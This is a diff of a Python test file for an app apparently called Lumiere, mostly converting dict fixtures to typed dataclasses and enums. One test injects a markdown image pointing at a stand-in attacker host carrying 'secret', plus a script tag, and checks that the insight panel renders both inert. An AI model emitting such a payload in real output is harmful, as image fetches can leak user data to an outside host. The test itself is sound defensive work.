@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
-from dataclasses import asdict
+from dataclasses import asdict, replace
 
 import pytest
 
 from lumiere.core.engine import CannotAnswer
+from lumiere.core.enums import Engine, QueryOrigin, QueryStatus
 from lumiere.db import session_scope
 from lumiere.services import ask, history, insights, sources
 from lumiere.services.auth import issue_token, register_user
+from lumiere.services.history import HistoryEntry
 from lumiere.state.arguments import INVALID_LINK, MAX_LABEL_CHARS, NOT_A_PAGE
 from lumiere.state.history import HistoryState, history_row
 from lumiere.state.insights import InsightsState
@@ -83,19 +85,23 @@ def test_deleted_sources_are_named_and_entries_can_be_deleted(asked):
 
 def test_history_rows_read_as_text():
     row = history_row(
-        {
-            "id": 3,
-            "question": "",
-            "sql": "SELECT  1\n FROM t",
-            "status": "refused",
-            "error": "Only SELECT.",
-            "source_name": "s",
-            "source_exists": True,
-            "origin": "sql",
-            "row_count": None,
-            "duration_ms": 1234,
-            "created_at": "2025-03-01T14:05:09Z",
-        }
+        HistoryEntry(
+            id=3,
+            question="",
+            sql="SELECT  1\n FROM t",
+            status=QueryStatus.REFUSED,
+            error="Only SELECT.",
+            row_count=None,
+            duration_ms=1234,
+            source_id=1,
+            source_name="s",
+            engine=Engine.USER,
+            origin=QueryOrigin.SQL,
+            note=None,
+            chart=None,
+            created_at="2025-03-01T14:05:09Z",
+            source_exists=True,
+        )
     )
     assert asdict(row) == {
         "id": "3",
@@ -145,7 +151,7 @@ def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
     panel = page_state(QueryState, token, "/query")
     panel._prepare_insight(ids["good"])
     panel._show_insight(
-        {**insight, "text": insight["text"] + "\n\n![x](http://evil.example/?q=secret) <script>x</script>"}
+        replace(insight, text=insight.text + "\n\n![x](http://evil.example/?q=secret) <script>x</script>")
     )
     assert "![x](" not in panel.insight_text and "<script>" not in panel.insight_text
     assert "`http://evil.example/?q=secret`" in panel.insight_text
@@ -154,7 +160,7 @@ def test_the_insight_panel_shows_text_inert_and_toggles_saved(asked):
     settled(panel.toggle_insight_saved())
     assert panel.insight_saved
     with session_scope() as session:
-        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight["id"]]
+        assert [item.id for item in insights.list_insights(session, user, saved=True)] == [insight.id]
     settled(panel.toggle_insight_saved())
     assert not panel.insight_saved
 
